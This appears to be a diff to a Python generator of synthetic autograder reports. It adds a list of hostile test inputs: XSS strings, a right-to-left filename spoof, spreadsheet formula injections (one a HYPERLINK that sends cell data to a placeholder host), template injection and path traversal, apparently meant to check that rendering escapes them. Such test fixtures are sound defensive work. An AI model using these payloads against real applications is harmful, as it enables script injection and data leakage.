@@ -21,7 +21,15 @@ MESSAGES = (
     'The loss of a known batch is 0.%d; binary cross-entropy gives 0.%d.',
     'pycodestyle finds %d things: line %d: E501 line too long.',
     'Line %d imports `numpy` and line %d `os`; only tensorflow.keras is '
-    'allowed.')
+    'allowed.',
+    '`</code><script>alert(%d)</script>` & "quotes" --> \'&lt;%d\' ]]>')
+# Names as a folder may have them.
+HOSTILE = ('<script>alert(1)</script>', '"><img src=x onerror=alert(2)>',
+           "' onmouseover='alert(3)", '\u202egnp.exe', 'x' * 3000,
+           '=HYPERLINK("http://there.example/?" & A1)', '+1', '@SUM(A1)',
+           'a;=1+1', 'b\t=1+1', '\u674e\u5c0f\u9f8d', '{{ 7 * 7 }}',
+           '../../../index', 'javascript:alert(4)')
+INTEGRITY = 'line 3: imports socket'
 HINTS = ['Which layer comes first in the decoder?',
          'Look at the loop over `hidden_layers`.']
 TABLE = [['layer', 'expected', 'found', 'line'],
@@ -49,8 +57,8 @@ def drawn(document, name, rng):
             check['status'] == 'passed' for check in task['checks']
             ) else 'failed'
         task['score'] = sum(check['points'] for check in task['checks'])
-        if rng.random() < .02:
-            task['integrity'] = ['line 3: imports os']
+        if rng.random() < .1:
+            task['integrity'] = [INTEGRITY]
     document['score'] = sum(task['score'] for task in document['tasks'])
     return document
 
